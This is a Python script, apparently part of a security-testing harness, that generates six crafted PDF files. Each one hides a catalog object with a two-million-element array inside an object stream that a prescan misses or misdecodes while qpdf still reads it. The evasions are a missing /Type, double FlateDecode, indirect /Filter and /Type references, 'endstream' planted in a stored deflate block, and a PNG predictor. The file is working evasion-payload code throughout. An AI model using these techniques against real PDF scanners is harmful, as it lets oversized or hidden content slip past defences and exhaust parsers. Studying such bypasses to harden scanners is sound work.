"""Family B: object streams the prescan does not recognise or does not decode as qpdf does."""
import sys, os, zlib, struct
sys.path.insert(0, os.path.dirname(__file__))
from pdfgen import *
D = sys.argv[1] if len(sys.argv) > 1 else "/tmp/attack-f"
N = int(os.environ.get("N", "2000000"))
big = b"[" + b"0 " * N + b"]"
cat = {1: b"<< /Type /Catalog /Pages 2 0 R /X " + big + b" >>"}
def w(name, data): open(os.path.join(D, name), "wb").write(data)
# B1: no /Type at all: qpdf uses any stream a type-2 xref entry names (warns "wrong type")
w("B1_notype.pdf", build_xs(dict(PAGES), cat, 4, stm_dict=b""))
# B2: /Type /ObjStm but [/FlateDecode /FlateDecode]: the prescan inflates one layer only
w("B2_flate2.pdf", build_xs(dict(PAGES), cat, 4, stm_dict=b"/Type /ObjStm /Filter [/FlateDecode /FlateDecode]",
                           stm_encode=lambda p: zlib.compress(zlib.compress(p, 9), 9)))
# B3: /Filter as an indirect reference to the name /FlateDecode
o = dict(PAGES); o[5] = b"/FlateDecode"
w("B3_filter_ref.pdf", build_xs(o, cat, 4, stm_dict=b"/Type /ObjStm /Filter 5 0 R",
                               stm_encode=lambda p: zlib.compress(p, 9)))
# B4: /Type given as an indirect reference (the prescan sees /ObjStm in object 5, not 4)
o = dict(PAGES); o[5] = b"/ObjStm"
w("B4_type_ref.pdf", build_xs(o, cat, 4, stm_dict=b"/Type 5 0 R"))
# B5: the word "endstream" in a stored deflate block at the start of the data
cat5 = {1: b"<< /Y /endstream /Type /Catalog /Pages 2 0 R /X " + big + b" >>"}
def pre(p):
    k = p.index(b"endstream") + 10
    return zlib_with_prefix_stored(p[:k], p[k:])
w("B5_endstream_in_data.pdf", build_xs(dict(PAGES), cat5, 4, stm_dict=b"/Type /ObjStm /Filter /FlateDecode",
    stm_encode=pre))
# B6: PNG Up predictor: the inflated rows are differences (all zero bytes = whitespace)
def png_up(p, cols=100):
    p = p + b" " * (-len(p) % cols)
    rows = [p[i:i + cols] for i in range(0, len(p), cols)]
    out = bytearray(); prev = bytes(cols)
    for r in rows:
        out += b"\x02" + bytes((a - b) & 255 for a, b in zip(r, prev)); prev = r
    return zlib.compress(bytes(out), 9)
w("B6_predictor.pdf", build_xs(dict(PAGES), cat, 4,
    stm_dict=b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 100 >>",
    stm_encode=png_up))
